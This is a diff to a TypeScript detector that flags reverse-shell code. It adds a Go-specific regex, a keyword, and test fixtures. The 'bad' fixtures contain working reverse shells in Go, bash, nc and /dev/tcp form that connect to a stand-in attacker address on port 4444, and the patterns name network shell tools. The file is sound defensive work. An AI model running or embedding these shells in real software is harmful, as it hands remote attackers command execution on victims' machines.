@@ -13,6 +13,8 @@ const FORMS: readonly RegExp[] = [
   /\bmkfifo\s[^\n]{1,120}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\b[^\n]{0,60}\|\s{0,3}(?:nc|ncat|netcat|openssl s_client)\b/g,
   /\bsocat\b[^\n]{0,120}\bexec:["']?[^\s,'"]{0,30}sh\b/gi,
   /\bos\.dup2\(\s{0,3}\w{1,40}\.fileno\(\)\s{0,3},\s{0,3}[012]\s{0,3}\)/g,
+  // A program of Go whose streams are the connection that was opened.
+  /\b(\w{1,40}),\s{0,3}\w{1,40}\s{0,3}:?=\s{0,3}(?:net|tls)\.Dial(?:Timeout)?\([^\n]{1,200}\n(?:[^\n]{0,300}\n){0,40}?[^\n]{0,100}\.Stdin\s{0,9}=\s{0,3}\1\b/g,
 ];
 /** A socket opened by number is a shell's where a shell reads from it, or what is read from it is run. */
 const READ_BY_SHELL =
@@ -38,13 +40,49 @@ export const check: FileCheck = {
     Where a remote console is meant, use one that authenticates, such as SSH.`,
   blindSpots: 'A shell that is built from parts at run time is not recognised by its text.',
   wants: {
-    keywords: ['/dev/tcp/', '/dev/udp/', '.dup2('],
+    keywords: ['/dev/tcp/', '/dev/udp/', '.dup2(', '.dial('],
     words: ['nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat '],
     acts: ['remote-control'],
     sinks: COMMAND_SINKS,
   },
   examples: {
     bad: [
+      {
+        'main.go': `
+          package main
+
+          import (
+            "net"
+            "os/exec"
+          )
+
+          func main() {
+            «link, _ := net.Dial("tcp", "203.0.113.7:4444")
+            shell := exec.Command("/bin/sh")
+            shell.Stdin = link»
+            shell.Stdout = link
+            shell.Run()
+          }`,
+      },
+      {
+        'main.go': `
+          package main
+
+          import (
+            "bufio"
+            "net"
+            "os/exec"
+          )
+
+          func main() {
+            conn, _ := net.Dial("tcp", "203.0.113.7:4444")
+            for {
+              line, _ := bufio.NewReader(conn).ReadString('\\n')
+              out, _ := exec.Command("sh", «"-c", line»).CombinedOutput()
+              conn.Write(out)
+            }
+          }`,
+      },
       { 'job.yaml': 'steps:\n  - run: "«nc -e /bin/sh» 10.0.0.1 4444"\n' },
       { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
       { 'run.sh': '«exec 5<>/dev/tcp/203.0.113.7/4444»; cat <&5 | while read line; do $line 2>&5 >&5; done' },
@@ -90,6 +128,21 @@ export const check: FileCheck = {
       },
     ],
     good: [
+      {
+        'main.go': `
+          package main
+
+          import (
+            "net"
+            "os/exec"
+          )
+
+          func main() {
+            conn, _ := net.Dial("tcp", "127.0.0.1:9000")
+            out, _ := exec.Command("uptime").Output()
+            conn.Write(out)
+          }`,
+      },
       { 'filter.yaml': 'words:\n  - keyword: "nc -e /bin/sh"\n    severity: high\n' },
       { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
       { 'probe.sh': '(echo > /dev/tcp/localhost/80) && echo open' },
@@ -174,7 +227,7 @@ function isFixedServer(text: string): boolean {
   return text.split('\n').some((line) => ADDRESS.test(line) && !ASKED_FOR.test(line));
 }
 const ADDRESS =
-  /["'`](?:(?:https?|wss?|tcp):\/\/[\w{}$.-]{4,}|\d{1,3}(?:\.\d{1,3}){3}["'`])|\.connect\(\s{0,3}\(?\s{0,3}["'][\w.-]{4,100}["']/;
+  /["'`](?:(?:https?|wss?|tcp):\/\/[\w{}$.-]{4,}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?["'`])|\.connect\(\s{0,3}\(?\s{0,3}["'][\w.-]{4,100}["']/;
 const ASKED_FOR = /environ|getenv|process\.env|argv|argparse|add_argument|\.option\(|config|default|input\(/i;
 
 const DATA: ReadonlySet<string> = new Set(['yaml', 'json', 'toml']);
